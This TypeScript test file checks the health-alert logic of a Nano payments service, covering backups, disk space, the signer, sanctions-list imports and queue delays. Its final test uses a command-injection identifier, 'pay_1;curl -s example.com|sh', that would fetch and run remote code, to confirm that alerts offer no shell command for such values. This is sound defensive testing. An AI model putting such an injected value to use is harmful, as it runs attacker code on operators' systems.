import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { addMs } from '@/lib/core/clock';
import { MADE_AT } from '@/prisma/factories';
import { projectRoot } from '@/prisma/project-root';
import { ALERT_CODES, type AlertCode, findAlerts } from './alerts';
import type { AttemptState } from './engine-heartbeat';
import { ENGINE_START } from './engine-report';
import type { HealthFacts } from './health-facts';
import { LOW_DISK_BYTES } from './store-alerts';

const ago = (seconds: number) => addMs(MADE_AT, -seconds * 1_000);
const agoText = (seconds: number) => ago(seconds).toISOString();
const tried = (name: string, fields: Partial<AttemptState> = {}): AttemptState => ({
  name,
  okAt: agoText(1),
  failingSince: null,
  failure: null,
  durationMs: 3,
  runningSince: null,
  refuses: [],
  ...fields,
});

const CLOCK = { referenceAheadMs: 3, machineAheadMs: -20, doubt: null, doubtForMs: 0, doubtedUntilMs: null };
const SIGNER = { failure: null, frozen: null, refusedLately: 0, nodeFailure: null };
const ENGINE: NonNullable<HealthFacts['engine']> = {
  at: ago(2),
  ledger: { ok: true, detail: 'Nano V27' },
  lastGoodAt: agoText(2),
  startedAt: agoText(86_400),
  websocket: true,
  websockets: [],
  workServers: [],
  nodes: [tried('node-a:7076')],
  sources: [tried('kraken')],
  jobs: [tried('moveMoney')],
  signer: SIGNER,
  foreign: { count: 0, first: null, unreadable: { count: 0, first: null }, checkedAt: agoText(17) },
  work: null,
  longestPauseMs: 12,
  durations: null,
  clock: CLOCK,
  money: null,
};
const EMPTY = { count: 0, oldest: null, isWhole: true };
const OPERATIONAL: HealthFacts = {
  processes: [],
  at: MADE_AT,
  engine: ENGINE,
  webClock: { ...CLOCK, machineAheadMs: 5_000 },
  lease: null,
  outageSince: null,
  rate: { usdPerNano: '3.00', observedAt: ago(10), simulated: false },
  currencies: [],
  pool: { ready: 2_000, needed: 1_000 },
  queues: {
    waiting: { ...EMPTY, count: 7 },
    money: EMPTY,
    transfers: { ...EMPTY, count: 1, oldest: ago(60) },
    webhooks: EMPTY,
    screening: { ...EMPTY, count: 1, oldest: ago(2) },
    mail: EMPTY,
    attention: { ...EMPTY, count: 1, oldest: ago(3_600) },
  },
  held: { totalRaw: 5n, parts: [] },
  audit: { cursor: '', checked: 9, mismatched: [], repaired: null, lastFullRoundAt: null, at: ago(5) },
  lists: [
    {
      ...{ id: 'sdn', name: 'OFAC SDN', importedAt: ago(3_600), attemptedAt: ago(3_600) },
      ...{ hasFailed: false, isOutdated: false },
    },
  ],
  missingKeys: [],
  storage: {
    kind: 'sqlite',
    databaseBytes: 1_000_000,
    walBytes: 4_000_000,
    freeBytes: 50e9,
    diskBytes: 100e9,
  },
  writeFailure: null,
  backup: {
    ...{ lastSuccessAt: agoText(86_400), bytes: 1_000, durationMs: 500, failures: 0 },
    ...{ failingSince: null, failure: null, triedAt: ago(86_400) },
    schedule: { intervalMs: 86_400_000, since: agoText(864_000) },
    holdsRealMoney: true,
  },
  hasWorkServer: false,
};

const engine = (fields: Partial<typeof ENGINE>): HealthFacts => ({
  ...OPERATIONAL,
  engine: { ...ENGINE, ...fields },
});
const queue = (name: keyof HealthFacts['queues'], seconds: number): HealthFacts => ({
  ...OPERATIONAL,
  queues: { ...OPERATIONAL.queues, [name]: { ...EMPTY, count: 3, oldest: ago(seconds) } },
});
const NEVER = { ...OPERATIONAL.backup, lastSuccessAt: null, schedule: null };
const REPAIRED = { account: 'nano_1', reason: 'a refund is due' } as const;
const MONEY = { waiting: 1, oldestAt: agoText(600), failing: [] } as const;
const failing = (name: string, seconds: number) => [tried(name, { failingSince: agoText(seconds) })];

/** For each alert, facts that trigger it and the closest facts that don't. */
const CASES: Readonly<Record<AlertCode, readonly [active: HealthFacts, inactive: HealthFacts]>> = {
  backupMissing: [
    { ...OPERATIONAL, backup: NEVER },
    { ...OPERATIONAL, backup: { ...NEVER, holdsRealMoney: false } },
  ],
  backupFailed: [
    { ...OPERATIONAL, backup: { ...OPERATIONAL.backup, failure: 'the disk is full' } },
    { ...OPERATIONAL, backup: { ...OPERATIONAL.backup, failure: 'the disk is full', schedule: null } },
  ],
  backupLate: [
    { ...OPERATIONAL, backup: { ...OPERATIONAL.backup, lastSuccessAt: agoText(172_801) } },
    { ...OPERATIONAL, backup: { ...OPERATIONAL.backup, lastSuccessAt: agoText(172_799) } },
  ],
  writesFail: [
    { ...OPERATIONAL, writeFailure: { kind: 'full', code: 'SQLITE_FULL' } },
    engine({ jobs: [tried('moveMoney', { failingSince: agoText(1), failure: 'Error: another' })] }),
  ],
  engineUnresponsive: [engine({ at: ago(11) }), engine({ at: ago(10) })],
  nodeUnavailable: [engine({ ledger: { ok: false, detail: 'not synced' } }), OPERATIONAL],
  signerUnavailable: [engine({ signer: { ...SIGNER, failure: 'no socket' } }), engine({ signer: null })],
  signerFrozen: [engine({ signer: { ...SIGNER, frozen: 'a cap is reached' } }), OPERATIONAL],
  signerNodeFails: [engine({ signer: { ...SIGNER, nodeFailure: 'timed out' } }), OPERATIONAL],
  signerRefuses: [engine({ signer: { ...SIGNER, refusedLately: 1 } }), OPERATIONAL],
  foreignAddress: [engine({ foreign: { ...ENGINE.foreign, count: 1, first: 'nano_1' } }), OPERATIONAL],
  rateStale: [{ ...OPERATIONAL, rate: null }, OPERATIONAL],
  jobsFail: [engine({ jobs: failing('moveMoney', 121) }), engine({ jobs: failing('moveMoney', 119) })],
  jobsStuck: [
    engine({ jobs: [tried('importLists', { runningSince: agoText(1_801) })] }),
    engine({ jobs: [tried('importLists', { runningSince: agoText(1_799) })] }),
  ],
  transfersFail: [
    engine({ money: { ...MONEY, failing: [{ paymentId: 'pay_1', failures: 4, error: 'too much' }] } }),
    engine({ money: MONEY }),
  ],
  nodesFail: [engine({ nodes: failing('node-b:7076', 121) }), engine({ nodes: failing('node-b:7076', 119) })],
  websocketDisconnected: [engine({ websocket: false }), engine({ websocket: null })],
  sourcesFail: [engine({ sources: failing('kraken', 121) }), engine({ sources: failing('kraken', 119) })],
  workSlow: [
    engine({ work: { at: agoText(9), from: 'local', durationMs: 61_000 } }),
    engine({ work: { at: agoText(3_601), from: 'local', durationMs: 61_000 } }),
  ],
  clockSkew: [
    engine({ clock: { ...CLOCK, machineAheadMs: -5_001 } }),
    engine({ clock: { ...CLOCK, machineAheadMs: -5_000 } }),
  ],
  clockJump: [
    { ...OPERATIONAL, webClock: { ...CLOCK, doubt: 'holding' } },
    { ...OPERATIONAL, webClock: null },
  ],
  keysMissing: [{ ...OPERATIONAL, missingKeys: ['k0'] }, OPERATIONAL],
  auditMismatch: [{ ...OPERATIONAL, audit: { ...OPERATIONAL.audit, mismatched: ['nano_1'] } }, OPERATIONAL],
  moneyStalled: [
    { ...OPERATIONAL, audit: { ...OPERATIONAL.audit, repaired: { ...REPAIRED, at: agoText(86_400) } } },
    { ...OPERATIONAL, audit: { ...OPERATIONAL.audit, repaired: { ...REPAIRED, at: agoText(86_401) } } },
  ],
  poolLow: [
    { ...OPERATIONAL, pool: { ready: 999, needed: 1_000 } },
    { ...OPERATIONAL, pool: { ready: 1_000, needed: 1_000 } },
  ],
  diskLow: [
    { ...OPERATIONAL, storage: { ...OPERATIONAL.storage, freeBytes: LOW_DISK_BYTES.warn - 1 } },
    { ...OPERATIONAL, storage: { ...OPERATIONAL.storage, freeBytes: null } },
  ],
  transfersLate: [queue('transfers', 901), queue('transfers', 900)],
  webhooksLate: [queue('webhooks', 301), queue('webhooks', 300)],
  screeningLate: [queue('screening', 61), queue('screening', 60)],
  mailLate: [queue('mail', 1_801), queue('mail', 1_800)],
  auditStalled: [
    { ...OPERATIONAL, audit: { ...OPERATIONAL.audit, at: ago(601) } },
    { ...engine({ startedAt: agoText(60) }), audit: { ...OPERATIONAL.audit, at: null } },
  ],
  listsOutdated: [
    { ...OPERATIONAL, lists: OPERATIONAL.lists.map((list) => ({ ...list, isOutdated: true })) },
    OPERATIONAL,
  ],
  walLarge: [{ ...OPERATIONAL, storage: { ...OPERATIONAL.storage, walBytes: 2 ** 30 } }, OPERATIONAL],
  attentionLate: [queue('attention', 86_401), queue('attention', 86_400)],
};

it.each(ALERT_CODES)('%s has its section in the documentation', (code) => {
  const manual = readFileSync(join(projectRoot(), 'docs', 'reference', 'alerts.md'), 'utf8');
  expect(manual).toMatch(new RegExp(`^## ${code}$`, 'm'));
});

it('none is active while everything is operational', () => {
  expect(findAlerts(OPERATIONAL)).toEqual([]);
});

it.each(ALERT_CODES)('%s is active only for its own reason, no earlier, and says what to do', (code) => {
  const [active, inactive] = CASES[code];
  expect(findAlerts(inactive)).toEqual([]);
  const [alert, ...others] = findAlerts(active);
  expect(others).toEqual([]);
  expect(alert).toMatchObject({
    code,
    text: expect.stringMatching(/\.$/),
    action: expect.stringMatching(/\.$/),
  });
});

it.each([
  ['a full disk', { kind: 'full', code: 'SQLITE_FULL' }, 'The disk is full (SQLITE_FULL).'],
  ['a failing disk', { kind: 'failing', code: '58030' }, "The database can't write (58030)."],
] as const)('%s comes before the unresponsive engine, which it explains', (_, writeFailure, text) => {
  const [first, second] = findAlerts({ ...engine({ at: ago(11) }), writeFailure });
  expect(first).toMatchObject({ code: 'writesFail', severity: 'bad', text });
  expect(second?.code).toBe('engineUnresponsive');
});

it('jobs that can’t write are an alert at once, although the engine still sends heartbeats', () => {
  const failure = 'The disk is full (ENOSPC). Error: no space left on device';
  const jobs = [tried('fillAddressPool', { failingSince: agoText(1), failure })];
  const [alert] = findAlerts(engine({ jobs }));
  expect(alert).toMatchObject({ code: 'writesFail', text: expect.stringContaining('fillAddressPool') });
});

it('without a node, says what happens to payments, and whether new ones can be created', () => {
  const down = engine({ ledger: { ok: false, detail: 'not synced' } });
  const textWith = (ready: number) => findAlerts({ ...down, pool: { ready, needed: 10 } })[0]?.text;
  expect(textWith(1)).toMatch(
    /Payments made now complete when the node is back; no money is lost. New payments can still be created.$/,
  );
  expect(textWith(0)).toMatch(/No payment can be created: no deposit address is ready.$/);
});

it('failing ones come first, and the last report of an unresponsive engine triggers nothing', () => {
  const silent = engine({
    at: ago(3_600),
    ledger: { ok: false, detail: 'away' },
    jobs: failing('moveMoney', 9_999),
  });
  const codes = findAlerts({ ...silent, lists: CASES.listsOutdated[0].lists, rate: null }).map(
    ({ code }) => code,
  );
  expect(codes).toEqual(['engineUnresponsive', 'rateStale', 'listsOutdated']);
});

it('a failing work server is an alert, no matter how fast this machine was', () => {
  const facts = engine({ work: { at: agoText(9), from: 'local', durationMs: 40 } });
  expect(findAlerts({ ...facts, hasWorkServer: true }).map(({ code }) => code)).toEqual(['workSlow']);
  expect(findAlerts(facts)).toEqual([]);
});

it.each([
  ['does not respond', { failure: 'no socket' }],
  ['is frozen', { frozen: 'an operator froze it' }],
  ['has no node', { nodeFailure: 'timed out' }],
] as const)('late transfers are not to be republished while the signer %s', (_, state) => {
  const late = queue('transfers', 901);
  const command = 'nano-payments admin republish --all';
  const [, alert] = findAlerts({ ...late, engine: { ...ENGINE, signer: { ...SIGNER, ...state } } });
  expect(alert).toMatchObject({ code: 'transfersLate', command: null });
  expect(findAlerts(late)).toMatchObject([{ code: 'transfersLate', command }]);
});

it('a backup from the future is none', () => {
  const backup = { ...OPERATIONAL.backup, lastSuccessAt: agoText(-86_400) };
  expect(findAlerts({ ...OPERATIONAL, backup })).toMatchObject([{ code: 'backupLate', since: ago(864_000) }]);
});

describe('the check of addresses', () => {
  const late = (fields: object, others: Partial<typeof ENGINE> = {}) =>
    findAlerts(engine({ ...others, foreign: { ...ENGINE.foreign, ...fields } }));

  it('reports rows that can’t be read, also next to wrong addresses', () => {
    const unreadable = { count: 2, first: 'payment pay_1' };
    const text = expect.stringMatching(/^2 rows .* can’t be read, such as: payment pay_1\./);
    expect(late({ unreadable })).toMatchObject([{ code: 'foreignAddress', severity: 'bad', text }]);
    const [both] = late({ unreadable, count: 1, first: 'nano_1' });
    expect(both?.text).toMatch(/such as nano_1\..* can’t be read/);
  });

  it('is late after 45 s without progress, by the engine’s clock, and names the failure of its job', () => {
    // The heartbeat is 2 s old.
    expect(late({ checkedAt: agoText(47) })).toEqual([]);
    const jobs = [tried('checkAddresses', { failingSince: agoText(40), failure: 'it broke' })];
    const alert = { code: 'foreignAddress', severity: 'bad', since: ago(48), failure: 'it broke' };
    expect(late({ checkedAt: agoText(48) }, { jobs })).toMatchObject([alert]);
  });

  it('may begin 3 minutes after the start, because the payments are polled first', () => {
    for (const checkedAt of [null, agoText(9_999)]) {
      expect(late({ checkedAt }, { startedAt: agoText(182) })).toEqual([]);
      expect(late({ checkedAt }, { startedAt: agoText(183) })).toMatchObject([{ code: 'foreignAddress' }]);
    }
  });

  it('waits for the signer, which has its own alert, and is unknown with an engine of an earlier version', () => {
    const signer = { ...SIGNER, failure: 'no socket' };
    expect(late({ checkedAt: agoText(999) }, { signer })).toMatchObject([{ code: 'signerUnavailable' }]);
    expect(late({ checkedAt: undefined })).toEqual([]);
  });
});

it('an engine that can’t start its jobs is unresponsive, although it sends heartbeats', () => {
  const start = (seconds: number) =>
    findAlerts(
      engine({ jobs: [tried(ENGINE_START, { failingSince: agoText(seconds), failure: 'broken' })] }),
    );
  expect(start(30)).toEqual([]);
  for (const seconds of [31, 200])
    expect(start(seconds)).toMatchObject([
      { code: 'engineUnresponsive', severity: 'bad', failure: 'broken' },
    ]);
});

describe('sanctions lists', () => {
  const withList = (fields: Partial<HealthFacts['lists'][number]>): HealthFacts => ({
    ...OPERATIONAL,
    lists: OPERATIONAL.lists.map((list) => ({ ...list, isOutdated: true, ...fields })),
  });

  it('whose import failed are named so, with the time of the failure', () => {
    expect(findAlerts(withList({ hasFailed: true, attemptedAt: ago(60) }))).toMatchObject([
      {
        text: 'Import of sanctions lists failed: OFAC SDN.',
        since: ago(60),
        action: expect.stringContaining('The previous version stays in use.'),
      },
    ]);
  });

  it('that nobody has imported for too long are outdated since their last version', () => {
    expect(findAlerts(withList({ attemptedAt: ago(60) }))).toMatchObject([
      { text: 'Outdated sanctions lists: OFAC SDN.', since: ago(3_600) },
    ]);
  });

  it('without a version have no previous one', () => {
    const [alert] = findAlerts(withList({ hasFailed: true, importedAt: null }));
    expect(alert?.action).not.toContain('previous version');
  });
});

it('An alert offers no command with an identifier that a shell would run', () => {
  const failing = (paymentId: string) =>
    findAlerts(engine({ money: { ...MONEY, failing: [{ paymentId, failures: 4, error: 'too much' }] } }));
  const commandOf = (paymentId: string) =>
    failing(paymentId).find(({ code }) => code === 'transfersFail')?.command;
  expect(commandOf('pay_1')).toBe('nano-payments audit --payment pay_1');
  expect(commandOf('pay_1;curl -s example.com|sh')).toBeNull();
});
